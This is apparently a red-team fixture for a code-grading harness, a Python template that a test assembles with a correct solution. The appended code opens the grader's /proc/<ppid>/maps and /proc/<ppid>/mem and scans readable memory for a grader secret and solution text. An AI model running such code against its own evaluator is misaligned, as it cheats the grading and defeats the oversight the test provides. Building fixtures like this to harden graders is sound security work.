"""Red team: Scans the grader's memory through /proc/<ppid>/maps and mem for GRADER_SECRET and
solution text.

examples/correct.py goes where # __CORRECT_SOLUTION__ stands (tests/test_redteam.py
assembles it); the attack follows."""

# __CORRECT_SOLUTION__

# __INCLUDE__ leak

import os

try:
    _pid = os.getppid()
    with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb", 0) as _mem:
        _budget = 1 << 30
        for _line in _maps:
            _range, _perms = _line.split()[:2]
            if not _perms.startswith("r") or _budget <= 0:
                continue
            _start, _end = (int(x, 16) for x in _range.split("-"))
            while _start < _end and _budget > 0 and not FOUND:
                try:
                    _mem.seek(_start)
                    _chunk = _mem.read(min(_end - _start, 1 << 22))
                except (OSError, ValueError, OverflowError):
                    break
                _budget -= len(_chunk)
                _start += len(_chunk) or (_end - _start)
                FOUND = hidden(_chunk)
except OSError:
    pass


# __INCLUDE__ found_scores_cost
